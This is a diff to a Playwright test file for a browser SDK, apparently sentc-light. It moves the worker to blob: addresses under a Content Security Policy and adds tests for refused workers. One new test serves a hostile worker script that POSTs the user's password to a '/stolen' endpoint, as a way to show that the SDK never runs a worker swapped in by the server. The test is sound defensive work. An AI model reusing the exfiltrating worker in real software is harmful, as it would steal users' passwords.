@@ -9,7 +9,7 @@ import { after, before, test } from "node:test";
 import { chromium } from "playwright-core";
 import { FLAGS, PASSWORD, freshName, passOn, totp } from "./support.mjs";
 
-const POLICY = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self'; connect-src 'self'; require-trusted-types-for 'script'";
+const POLICY = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src blob:; connect-src 'self'; require-trusted-types-for 'script'";
 const TOKEN = "5zMb6zs3dEM62n+FxjBilFPp+j9e7YUFA+7pi6Hi";
 const FILES = new URL("../../pkg/dist/", import.meta.url);
 const hashes = JSON.parse(readFileSync(new URL("sentc-light.integrity.json", FILES), "utf8"));
@@ -45,9 +45,10 @@ after(async () => {
   server?.close();
 });
 
-/** Pages under a policy, the built files, and the API of the dev server. `changed`: a file that somebody has touched. */
+/** Pages under a policy, the built files, and the API of the dev server. `changed`: a file that somebody has touched.
+ *  `worker`: what a request for a worker's script gets, which browsers mark as one. */
 async function serve() {
-  const state = { policy: POLICY, changed: undefined, calls: [] };
+  const state = { policy: POLICY, changed: undefined, worker: undefined, calls: [] };
   const http = createServer((request, response) => {
     const { pathname } = new URL(request.url, "http://x");
     if (pathname.startsWith("/api/")) {
@@ -60,7 +61,13 @@ async function serve() {
     if (pathname === "/") head("text/html").end(page(`<script src="/sentc-light.min.js" integrity="${hashes["sentc-light.min.js"]}" crossorigin="anonymous"></script>`));
     else if (pathname === "/empty") head("text/html").end(page(""));
     else if (pathname === "/page.js") head("text/javascript").end(SCRIPT);
-    else if (pathname.slice(1) in hashes) {
+    else if (state.worker !== undefined && request.headers["sec-fetch-dest"] === "worker") {
+      state.calls.push(`worker ${pathname}`);
+      head("text/javascript").end(state.worker);
+    } else if (pathname === "/stolen") {
+      state.calls.push("stolen");
+      head("text/plain").end();
+    } else if (pathname.slice(1) in hashes) {
       const bytes = readFileSync(new URL(pathname.slice(1), FILES));
       const touched = state.changed === pathname.slice(1) ? Buffer.concat([bytes, Buffer.from(pathname.endsWith(".wasm") ? [0, 2, 1, 0x78] : "\n")]) : bytes;
       head(pathname.endsWith(".wasm") ? "application/wasm" : "text/javascript").end(touched);
@@ -71,15 +78,15 @@ async function serve() {
 }
 
 /** A browser profile under this policy. */
-async function withContext({ policy = POLICY, changed }, work) {
-  Object.assign(server, { policy, changed, calls: [] });
+async function withContext({ policy = POLICY, changed, worker }, work) {
+  Object.assign(server, { policy, changed, worker, calls: [] });
   const context = await browser.newContext();
   context.setDefaultTimeout(30_000);
   try {
     await work(context);
   } finally {
     await context.close();
-    Object.assign(server, { policy: POLICY, changed: undefined });
+    Object.assign(server, { policy: POLICY, changed: undefined, worker: undefined });
   }
 }
 
@@ -133,16 +140,52 @@ for (const [what, policy] of [
       assert.equal(await ready(page), undefined);
       // The page's own empty icon is refused too, where the browser gets to it.
       assert.deepEqual(await page.evaluate(() => window.violations.filter((what) => !what.startsWith("img-src data"))), []);
-      assert.ok(workers.some((url) => url.endsWith("/sentc-light.worker.js")), "the worker has started");
+      assert.ok(workers.some((url) => url.startsWith(`blob:${server.url}/`)), "the worker has started");
     }));
 }
 
-test("where the policy refuses the worker, the page derives", limit, () =>
-  withContext({ policy: POLICY.replace("worker-src 'self'", "worker-src 'none'") }, async (context) => {
-    const page = await open(context);
-    await signIn(page);
-    assert.deepEqual(page.workers(), []);
-  }));
+// `'self'` would allow the file. It is not started: nobody could check what the server gives for it.
+for (const refusal of ["worker-src 'none'", "worker-src 'self'"]) {
+  test(`where the policy refuses workers from blob: addresses (${refusal}), the page derives`, limit, () =>
+    withContext({ policy: POLICY.replace("worker-src blob:", refusal) }, async (context) => {
+      const page = await open(context);
+      const workers = [];
+      page.on("worker", (worker) => workers.push(worker.url()));
+      const warned = page.waitForEvent("console", (message) => message.type() === "warning" && message.text().includes("worker-src"));
+      await signIn(page);
+      assert.match((await warned).text(), /^sentc-light: worker-src blocks the worker from blob/);
+      // Chromium names a worker before it refuses to run it.
+      assert.deepEqual(workers.filter((url) => !url.startsWith("blob:")), []);
+      assert.deepEqual(page.workers(), []);
+    }));
+}
+
+test("a server that gives the right file to the check and another one to the worker gets no password", limit, async () => {
+  // Answers as the worker does, and passes on what it is given.
+  const worker = `onmessage = ({ data }) => {
+    if ("module" in data) return postMessage({ kind: "ready" });
+    fetch("/stolen", { method: "POST", body: data.password }).finally(() => postMessage({ kind: "refused", id: data.id }));
+  };`;
+  for (const directive of ["worker-src blob:", "worker-src 'self'", "worker-src 'self' blob:"]) {
+    await withContext({ policy: POLICY.replace("worker-src blob:", directive), worker }, async (context) => {
+      await signIn(await open(context));
+      assert.deepEqual(server.calls.filter((call) => /worker|stolen/.test(call)), [], directive);
+      assert.ok(server.calls.some((call) => call.endsWith("/verify_login_light")), server.calls.join(", "));
+    });
+  }
+  // The pattern proves something: started from its address, that worker gets the password.
+  await withContext({ policy: POLICY.replace("worker-src blob:", "worker-src 'self'"), worker }, async (context) => {
+    const page = await open(context, "/empty");
+    await page.evaluate(() => {
+      // The page's policy wants trusted addresses.
+      const policy = trustedTypes.createPolicy("sentc-light", { createScriptURL: (url) => url });
+      const worker = new Worker(policy.createScriptURL("/sentc-light.worker.js"));
+      worker.postMessage({ id: 1, password: new TextEncoder().encode("password"), salt: new Uint8Array(32), profile: "standard" });
+      return new Promise((resolve) => (worker.onmessage = resolve));
+    });
+    assert.deepEqual(server.calls.filter((call) => /worker|stolen/.test(call)), ["worker /sentc-light.worker.js", "stolen"]);
+  });
+});
 
 test("files that somebody has touched are not run", limit, async () => {
   await withContext({ changed: "sentc-light.min.js" }, async (context) => assert.equal(await ready(await open(context)), "no SDK"));
